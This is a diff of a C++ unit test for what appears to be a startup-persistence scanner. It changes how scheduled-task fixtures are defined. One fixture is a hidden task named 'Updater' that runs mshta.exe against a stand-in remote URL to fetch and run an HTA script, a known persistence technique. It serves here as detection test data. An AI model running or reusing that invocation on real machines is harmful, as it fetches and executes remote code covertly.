@@ -246,11 +246,14 @@ TEST_F(StartupScan, TasksAreListedPerProgramAndAHiddenOneRunningAScriptHostIsFou
     platform::ScheduledTask hidden;
     hidden.path = "\\Updater";
     hidden.hidden = true;
-    hidden.repeatMinutes = 15;
+    hidden.repetitions = {"PT1H", "PT15M"};
     hidden.programs = {{"%SystemRoot%\\System32\\mshta.exe", "http://x.example/a.hta"}};
+    // A scheduler that gives only the definition.
     platform::ScheduledTask plain;
     plain.path = "\\Vendor\\Backup";
-    plain.programs = {{"C:\\Program Files\\Backup\\b.exe", "/nightly"}};
+    plain.definitionXml =
+        "<Task><Actions><Exec><Command>C:\\Program Files\\Backup\\b.exe</Command>"
+        "<Arguments>/nightly</Arguments></Exec></Actions></Task>";
     machine.scheduledTasks.tasks = {hidden, plain};
     Scan();
     const std::string where = "C:\\Windows\\system32\\Tasks\\Updater";
